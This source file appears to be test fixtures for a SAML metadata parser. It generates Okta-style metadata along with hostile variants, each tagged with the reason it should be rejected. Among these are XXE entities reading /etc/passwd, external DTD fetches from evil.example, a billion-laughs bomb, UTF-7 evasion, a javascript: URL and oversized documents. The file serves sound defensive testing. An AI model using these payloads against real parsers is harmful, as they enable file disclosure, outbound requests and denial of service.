import { createRandom } from '../bench/seed'
import type { Input } from './page/inputs-page'

const MD = 'urn:oasis:names:tc:SAML:2.0:metadata'
const DS = 'http://www.w3.org/2000/09/xmldsig#'
const EXK = 'exk1fbaqc4HZ4vEiY4x7'

/** What can be odd in metadata. */
type Part = 'root' | 'key' | 'before' | 'certificateText' | 'idp' | 'app' | 'entityId'

/** Metadata like Okta's, with room for oddities. */
export function metadataWith(certificate: string, wish: Partial<Record<Part, string>> = {}): string {
  const { root = '', key = '', before = '', certificateText = certificate, idp = '', app = EXK } = wish
  const { entityId = `http://www.okta.com/${app}` } = wish
  return `<?xml version="1.0" encoding="UTF-8"?>${before}<md:EntityDescriptor entityID="${entityId}" xmlns:md="${MD}"${root}><md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:KeyDescriptor use="signing"><ds:KeyInfo xmlns:ds="${DS}"><ds:X509Data><ds:X509Certificate>${certificateText}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>${key}<md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress</md:NameIDFormat><md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://acme.okta.com/app/facebook_work_accounts/${app}/sso/saml"/></md:IDPSSODescriptor>${idp}</md:EntityDescriptor>`
}

/** An input that has to be refused, for one of these reasons if any are named. */
export interface OddMetadata extends Input {
  name: string
  reasons?: readonly string[]
}

const laughs = () => {
  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`)
  return `<!DOCTYPE x [<!ENTITY l0 "ha">${entities.join('')}]>`
}
const utf16 = (text: string) => Array.from(text, (sign) => `${sign}\0`).join('')
const utf7 = (text: string) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-').replaceAll('!', '+ACE-')

/** Bombs, and metadata that isn't that of one identity provider, all made from a sound certificate. */
export function oddMetadata(certificate: string): OddMetadata[] {
  const sound = metadataWith(certificate)
  const odd = (name: string, text: string, ...reasons: string[]): OddMetadata => ({ name, text, reasons })
  const doctype = (inside: string) => metadataWith(certificate, { before: inside })
  const filled = (name: string, piece: string, times: number, ...reasons: string[]): OddMetadata => ({
    name,
    text: `${sound.slice(0, -25)}${' '.repeat(sound.length - 50)}`,
    repeat: { piece, times },
    reasons,
  })
  const entities = [
    '<!DOCTYPE x>',
    '<!doctype x>',
    '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/p"> %p;]>',
    '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1.dtd">',
    `<!DOCTYPE x [<!ENTITY q "${'q'.repeat(50_000)}">]>`,
    laughs(),
  ]
  const half = Math.floor(certificate.length / 2)
  const inside = (piece: string) => certificate.slice(0, half) + piece + certificate.slice(half)
  const second = sound.replace(/^<\?xml[^>]*>/, '')
  return [
    ...entities.map((one, place) => odd(`a document type, ${place}`, doctype(one), 'doctype')),
    ...entities.map((one, place) => odd(`the same in UTF-16, ${place}`, utf16(doctype(one)))),
    ...entities.map((one, place) => odd(`the same in UTF-7, ${place}`, utf7(doctype(one)))),
    odd(
      'an entity that nobody defined',
      metadataWith(certificate, { certificateText: inside('&lol;') }),
      'not-xml',
    ),
    odd(
      'a comment in the certificate',
      metadataWith(certificate, { certificateText: inside('<!-- x -->') }),
      'hidden-content',
    ),
    odd(
      'an instruction in the certificate',
      metadataWith(certificate, { certificateText: inside('<?x y?>') }),
      'hidden-content',
    ),
    odd(
      'an element in the certificate',
      metadataWith(certificate, { certificateText: inside('<b/>') }),
      'hidden-content',
    ),
    odd(
      'two entities',
      `<md:EntitiesDescriptor xmlns:md="${MD}">${second}${second}</md:EntitiesDescriptor>`,
      'several-identity-providers',
    ),
    odd('another namespace', sound.replaceAll(MD, `${MD}x`), 'not-metadata'),
    odd('keys of another namespace', sound.replaceAll(DS, `${DS}x`), 'no-certificate'),
    odd('no namespace', sound.replaceAll('md:', ''), 'not-metadata'),
    odd('SAML 1.1 only', sound.replace('SAML:2.0:protocol', 'SAML:1.1:protocol'), 'no-identity-provider'),
    odd(
      'a service provider',
      sound.replaceAll('IDPSSODescriptor', 'SPSSODescriptor'),
      'no-identity-provider',
    ),
    odd('no entity ID', sound.replace(/entityID="[^"]*"/, ''), 'no-entity-id'),
    odd(
      'a script for a URL',
      sound.replace(/Location="[^"]*"/, 'Location="javascript:alert(1)"'),
      'no-sign-on-url',
    ),
    odd('a key for encryption only', sound.replace('use="signing"', 'use="encryption"'), 'no-certificate'),
    odd('not closed', sound.slice(0, -10), 'not-xml'),
    odd('an attribute twice', sound.replace('entityID=', 'entityID="x" entityID='), 'not-xml'),
    odd('HTML', '<!doctype html><h1>Sign in</h1>', 'doctype'),
    odd('JSON', '{"entityID":"x"}', 'not-xml'),
    odd('nothing', ' \n ', 'empty'),
    filled('10 MB of blanks', ' ', 10_000_000, 'too-long'),
    filled('10 MB of elements', '<a>', 3_000_000, 'too-long'),
    filled('nested 80,000 deep', '<a>', 80_000, 'not-xml'),
    filled('20,000 attributes', ' a="b"', 20_000, 'not-xml'),
    filled('a wide document', '<a/>', 60_000, 'not-xml'),
  ]
}

/** What is sound though it looks odd; two certificates are no refusal here, but a question later. */
export function soundMetadata(
  certificate: string,
  other: string,
): { name: string; text: string; certificates: number }[] {
  const key = (use: string, text: string) =>
    `<md:KeyDescriptor${use}><ds:KeyInfo xmlns:ds="${DS}"><ds:X509Data><ds:X509Certificate>${text}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>`
  const sound = metadataWith(certificate)
  return [
    { name: 'as it is', text: sound, certificates: 1 },
    {
      name: 'rollover keys',
      text: metadataWith(certificate, { key: key(' use="signing"', other) }),
      certificates: 2,
    },
    { name: 'no use', text: sound.replace(' use="signing"', ''), certificates: 1 },
    {
      name: 'another key for encryption',
      text: metadataWith(certificate, { key: key(' use="encryption"', other) }),
      certificates: 1,
    },
    {
      name: 'one entity in a group',
      text: `<md:EntitiesDescriptor xmlns:md="${MD}">${sound.replace(/^<\?xml[^>]*>/, '')}</md:EntitiesDescriptor>`,
      certificates: 1,
    },
    {
      name: 'character data',
      text: metadataWith(certificate, { certificateText: `<![CDATA[${certificate}]]>` }),
      certificates: 1,
    },
    {
      name: 'other prefixes',
      text: sound.replaceAll('md:', 'q:').replaceAll('xmlns:md', 'xmlns:q'),
      certificates: 1,
    },
  ]
}

/** Ways to damage or dress up a document; `other`: another tenant's. */
const MUTATORS: readonly ((text: string, random: () => number, other: string) => string)[] = [
  (text, random) => text.slice(0, Math.floor(random() * text.length)),
  (text, random) => {
    const at = Math.floor(random() * text.length)
    return (
      text.slice(0, at) +
      String.fromCharCode(text.charCodeAt(at) ^ (1 << Math.floor(random() * 7))) +
      text.slice(at + 1)
    )
  },
  (text, random) => {
    const at = Math.floor(random() * text.length)
    return text.slice(0, at) + text.slice(at + 1 + Math.floor(random() * 30))
  },
  (text, random) => {
    const at = Math.floor(random() * text.length)
    return (
      text.slice(0, at) +
      (['\u200b', '\u00a0', '\r\n', ' ', '\u202e', '\0', '<!---->', '<?x?>', '&#10;', '&amp;'][
        Math.floor(random() * 10)
      ] ?? '') +
      text.slice(at)
    )
  },
  (text) =>
    text.replace(
      /(<(?:\w+:)?X509Certificate>)([^<]*)/g,
      (_, tag: string, inner: string) => tag + inner.replace(/(.{76})/g, '$1\r\n'),
    ),
  (text) =>
    text.replace(
      /(<(?:\w+:)?X509Certificate>)([^<]*)/g,
      (_, tag: string, inner: string) => `${tag}${inner.toLowerCase()}`,
    ),
  (text) =>
    text.replace(
      /(<(?:\w+:)?X509Certificate>)([^<]*)/g,
      (_, tag: string, inner: string) =>
        tag + Array.from(inner, (sign) => `&#${sign.codePointAt(0)};`).join(''),
    ),
  (text, _, other) => text.replace(/entityID="[^"]*"/, /entityID="[^"]*"/.exec(other)?.[0] ?? ''),
  (text, _, other) => text.replace(/exk[0-9A-Za-z]{17}/, /exk[0-9A-Za-z]{17}/.exec(other)?.[0] ?? ''),
  (text, _, other) =>
    text.replace(
      /(<(?:\w+:)?KeyDescriptor)/,
      `${/<(?:\w+:)?KeyDescriptor[\s\S]*?<\/(?:\w+:)?KeyDescriptor>/.exec(other)?.[0] ?? ''}$1`,
    ),
  (text) => text.replaceAll('urn:oasis:names:tc:SAML:2.0:metadata', 'urn:oasis:names:tc:saml:2.0:metadata'),
  (text) => text.toUpperCase(),
  (text) => text.replace(/(entityID=")/, '$1&#x20;'),
  (text) => text.replace(/(entityID="http)/, '$1s'),
  (text) => `\ufeff${text}`,
  (text) => text.replaceAll('"', "'"),
]

/** So many damaged texts of a sound one, the same for the same seed. */
export function mutants(text: string, other: string, count: number, seed: number): string[] {
  const random = createRandom(seed)
  return Array.from({ length: count }, (_, place) => {
    // The two that hit anywhere more often than those that always do the same.
    const mutator = MUTATORS[place < MUTATORS.length ? place : Math.floor(random() * 4)]
    return mutator?.(text, random, other) ?? text
  })
}
